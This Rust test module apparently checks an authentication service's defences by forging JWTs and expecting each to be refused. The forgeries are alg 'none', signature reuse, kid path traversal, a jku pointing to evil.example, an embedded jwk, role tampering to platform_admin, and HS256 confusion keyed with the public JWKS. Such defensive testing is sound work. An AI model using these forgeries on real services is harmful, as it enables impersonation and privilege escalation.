//! Access tokens that somebody else wrote: without a signature, with that of another payload, signed with a key that the
//! token brings along, or with the public key as a shared secret. More than 600 of them, each with the one check that
//! refuses it, are in `auth/tests/forged_tokens/`.

use anyhow::Context;
use auth::weakened::Defence;
use aws_lc_rs::hmac;
use base64::Engine as _;
use base64::prelude::BASE64_URL_SAFE_NO_PAD;
use serde_json::{Value, json};

use super::{Attack, Control};
use crate::Outcome;
use crate::target::Target;

pub const ATTACK: Attack =
    Attack { name: "jwt_forgeries", settings: &[], control: Control::Without(Defence::Signature) };

pub async fn attack(target: &Target) -> anyhow::Result<Outcome> {
    let alice = target.newcomer("alice@example.com").await?;
    let mallory = target.newcomer("mallory@example.com").await?;
    let (head, payload, signature) = parts(&mallory.token)?;
    let hers = parts(&alice.token)?.1;
    let header: Value = serde_json::from_slice(&BASE64_URL_SAFE_NO_PAD.decode(head)?)?;
    let with = |name: &str, value: Value| {
        let mut header = header.clone();
        header[name] = value;
        BASE64_URL_SAFE_NO_PAD.encode(header.to_string())
    };
    let mut forged = vec![
        // Whoever signed mallory's token signed alice's claims as well.
        format!("{head}.{hers}.{signature}"),
        format!("{head}.{hers}."),
        format!("{}.{hers}.", with("alg", json!("none"))),
        format!("{}.{hers}.", with("alg", json!("None"))),
        format!("{}.{hers}.{signature}", with("kid", json!("../../../dev/null"))),
        format!("{}.{hers}.{signature}", with("jku", json!("https://evil.example/keys.json"))),
        format!("{}.{hers}.{signature}", with("jwk", json!({"kty": "OKP", "crv": "Ed25519", "x": "AA"}))),
        format!("{head}.{}.{signature}", tampered(payload)?),
    ];
    let keys = target.get("/.well-known/jwks.json", "").await?.body;
    let message = format!("{}.{hers}", with("alg", json!("HS256")));
    let key = hmac::Key::new(hmac::HMAC_SHA256, keys.as_bytes());
    let signed = BASE64_URL_SAFE_NO_PAD.encode(hmac::sign(&key, message.as_bytes()));
    forged.push(format!("{message}.{signed}"));
    for token in forged {
        let answer = target.bearer("GET", "/api/v1/me", &token, &Value::Null).await?;
        if answer.status != 401 {
            return Ok(Outcome::Succeeded(format!("accepted {}…", &token[..token.len().min(40)])));
        }
    }
    Ok(Outcome::Stopped)
}

fn parts(token: &str) -> anyhow::Result<(&str, &str, &str)> {
    let mut parts = token.split('.');
    let mut next = || parts.next().context("three parts");
    Ok((next()?, next()?, next()?))
}

/// The same claims with more rights.
fn tampered(payload: &str) -> anyhow::Result<String> {
    let mut claims: Value = serde_json::from_slice(&BASE64_URL_SAFE_NO_PAD.decode(payload)?)?;
    claims["roles"] = json!(["platform_admin"]);
    Ok(BASE64_URL_SAFE_NO_PAD.encode(claims.to_string()))
}
